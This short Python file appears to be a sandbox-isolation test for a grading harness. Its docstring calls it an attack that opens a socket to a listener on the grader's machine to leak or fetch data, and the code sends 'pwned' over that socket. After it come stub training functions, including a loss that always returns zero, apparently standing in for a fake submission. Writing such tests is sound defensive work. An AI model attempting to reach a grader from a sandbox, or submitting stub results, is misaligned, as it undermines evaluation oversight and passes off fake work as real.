"""Attack: connect to a listener on the grader's machine (127.0.0.1) to leak or fetch data.
Expected: there is no network inside the sandbox."""
import socket

try:
    with socket.create_connection(("127.0.0.1", @@PORT@@), timeout=2) as connection:
        connection.sendall(b"pwned")
        print("CONNECTED")
except OSError as exc:
    print("no connection:", exc)


def forward(w, x):
    return w * x


def loss(y, y_pred):
    return 0.0


def train(x, y, w=0.0, learning_rate=0.01, n_iters=100):
    return [(0.0, 0.0)] * n_iters
